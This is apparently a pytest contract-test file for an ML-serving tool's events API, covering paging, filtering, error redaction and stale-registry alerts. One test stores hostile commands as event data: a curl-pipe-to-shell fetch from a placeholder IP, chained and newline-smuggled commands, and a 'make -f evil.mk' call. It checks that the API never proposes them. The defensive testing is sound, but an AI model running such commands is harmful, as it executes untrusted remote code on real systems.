"""Events over HTTP: newest first, in pages, each with a link and a command."""

from collections.abc import Callable
from datetime import UTC, datetime, timedelta, tzinfo

import jsonschema
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from app.serving.slot import Slot
from app.serving.stale_events import StaleEvents
from dosel.db.engine import connect
from dosel.db.tables import EVENTS
from dosel.errors import WarehouseError
from dosel.usecases import ALL
from dosel.usecases.covertype import COVERTYPE
from dosel.warehouse.events import Event, EventStore
from tests.contract.conftest import Installation
from tests.contract.test_api_batches import client_of

Install = Callable[..., Installation]


@pytest.fixture
def client(install: Install) -> TestClient:
    """An installation with three events of covertype and one of penguins."""
    settings = install(mlflow_url="https://mlflow.test").settings
    store = EventStore(connect(settings.warehouse_url))
    for number, name in enumerate(("covertype", "penguins", "covertype", "covertype")):
        store.add(
            Event(
                f"incident {number}",
                name,
                "promoted",
                "it happened",
                "as seen",
                "dosel history covertype",
                "mlflow/#/models",
            )
        )
    return client_of(settings)


def test_events_are_listed_newest_first_in_pages(client: TestClient) -> None:
    body = client.get("/events?limit=2").json()
    document = client.get("/openapi.json").json()
    jsonschema.validate(body, {"$ref": "#/components/schemas/Events", "components": document["components"]})
    assert [event["incident"] for event in body["events"]] == ["incident 3", "incident 2"]
    rest = client.get(f"/events?limit=2&before={body['next_before']}").json()
    assert [event["incident"] for event in rest["events"]] == ["incident 1", "incident 0"]
    assert rest["next_before"] is None
    first = body["events"][0]
    assert (first["link"], first["command"], first["delivered"], first["waiting"]) == (
        "https://mlflow.test/#/models?workflowType=machine_learning",
        "dosel history covertype",
        0,
        0,
    )


def test_events_can_be_filtered_by_use_case(client: TestClient) -> None:
    [event] = client.get("/events?use_case=penguins").json()["events"]
    assert event["incident"] == "incident 1"


def test_an_unknown_use_case_gets_404(client: TestClient) -> None:
    response = client.get("/events?use_case=none")
    assert (response.status_code, response.headers["content-type"]) == (404, "application/problem+json")
    assert response.json()["detail"] == f"no use case 'none'; there are: {', '.join(u.name for u in ALL)}"


@pytest.mark.parametrize("query", ["limit=0", "limit=1001", "before=0", "before=x", f"before={2**63}"])
def test_an_invalid_query_gets_422(query: str, client: TestClient) -> None:
    assert client.get(f"/events?{query}").status_code == 422


def test_the_error_of_a_closed_use_cases_task_is_not_shown(install: Install) -> None:
    settings = install().settings
    store = EventStore(connect(settings.warehouse_url))
    for name in ("covertype", "employees"):
        store.add(
            Event(name, name, "task failed", f"{name}_ingest failed", "it sent ['Zoe', 'E12345', 0.91]", "dosel x")
        )
    closed, opened = client_of(settings).get("/events").json()["events"]
    assert (closed["what"], closed["evidence"]) == ("employees_ingest failed", "the task's log has the error")
    assert "Zoe" in opened["evidence"]


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://203.0.113.9/fix | sh",
        "dosel shadow; sh fix",
        "dosel verify\nsh fix",
        "make clean",
        "make -f evil.mk",
    ],
)
def test_no_event_proposes_a_command_that_is_not_dosels(command: str, install: Install) -> None:
    """Anybody who can write to the data store can add an event."""
    settings = install().settings
    EventStore(connect(settings.warehouse_url)).add(Event("i", "penguins", "harmed", "x", "y", command))
    [event] = client_of(settings).get("/events").json()["events"]
    assert event["command"] == "dosel verify"


def test_events_of_an_unknown_kind_are_left_out(install: Install) -> None:
    settings = install().settings
    engine = connect(settings.warehouse_url)
    for kind in ("promoted", "of a newer dosel"):
        EventStore(engine).add(Event(kind, "penguins", "promoted", "x", "y", "dosel x"))
    with engine.begin() as connection:
        connection.execute(update(EVENTS).where(EVENTS.c.incident == "of a newer dosel").values(kind="sunny"))
    [event] = client_of(settings).get("/events").json()["events"]
    assert event["incident"] == "promoted"


def test_the_error_of_a_closed_use_cases_task_has_the_http_status_of_a_service(install: Install) -> None:
    settings = install().settings
    error = "ServiceError: the prediction API answered 404: no use case 'Zoe'"
    event = Event("it", "employees", "task failed", "the task warm_up failed", error, "dosel x")
    EventStore(connect(settings.warehouse_url)).add(event)
    [shown] = client_of(settings).get("/events").json()["events"]
    assert shown["evidence"] == "the task's log has the error; a service answered with HTTP status 404"


def test_an_unreachable_data_store_gets_503(install: Install) -> None:
    settings = install(warehouse_url="mysql+pymysql://someone:hush@127.0.0.1:1/datadb").settings
    response = client_of(settings).get("/events")
    assert response.status_code == 503
    assert "hush" not in response.text


class TestStale:
    """The event that the follower writes when it cannot reach the registry."""

    def test_event_is_written_once_for_each_long_period(
        self, install: Install, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        here, watch, slot, clock = stale_parts(install, monkeypatch)
        store = EventStore(connect(here.settings.warehouse_url))
        for second, failed in ((0, True), (50, True), (55, False), (100, True), (150, True)):
            clock(second)
            slot.failed = failed
            watch.watch(slot)
        assert store.newest(10) == []
        for second in (170, 200):
            clock(second)
            watch.watch(slot)
        [event] = store.newest(10)
        assert (event.kind, event.evidence) == ("stale", "it waits for the registry")
        clock(300)
        slot.failed = False
        for _ in range(2):
            watch.watch(slot)
        assert [event.what.partition("; ")[0] for event in store.newest(10)] == [
            "covertype: the prediction API follows Production again",
            "covertype: the prediction API cannot follow Production",
        ]
        slot.failed = True
        for second in (2000, 2100):
            clock(second)
            watch.watch(slot)
        assert len(store.newest(10)) == 3

    def test_event_is_written_at_the_end_if_the_data_store_was_down(
        self, install: Install, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        here, watch, slot, clock = stale_parts(install, monkeypatch)
        store = EventStore(connect(here.settings.warehouse_url))
        with monkeypatch.context() as patch:
            patch.setattr(EventStore, "add", _away)
            for second in (0, 70, 110):
                clock(second)
                watch.watch(slot)
        slot.failed, slot.waiting_for = False, ""
        clock(120)
        watch.watch(slot)
        [event] = store.newest(10)
        assert "the API has followed Production again since" in event.evidence


def _away(*_: object) -> bool:
    raise WarehouseError("away")


def stale_parts(
    install: Install, monkeypatch: pytest.MonkeyPatch
) -> tuple[Installation, StaleEvents, Slot, Callable[[float], None]]:
    """An installation, its watch over slots, a slot that waits for the registry, and a settable clock."""
    here = install()
    start = datetime(2026, 11, 26, tzinfo=UTC)
    now = [start]

    class Clock(datetime):
        @classmethod
        def now(cls, tz: tzinfo | None = None) -> datetime:  # type: ignore[override]
            return now[0]

    monkeypatch.setattr("app.serving.stale_events.datetime", Clock)

    def set_clock(seconds: float) -> None:
        now[0] = start + timedelta(seconds=seconds)

    slot = Slot(COVERTYPE, failed=True, waiting_for="the registry")
    return here, StaleEvents(here.settings.warehouse_url), slot, set_clock
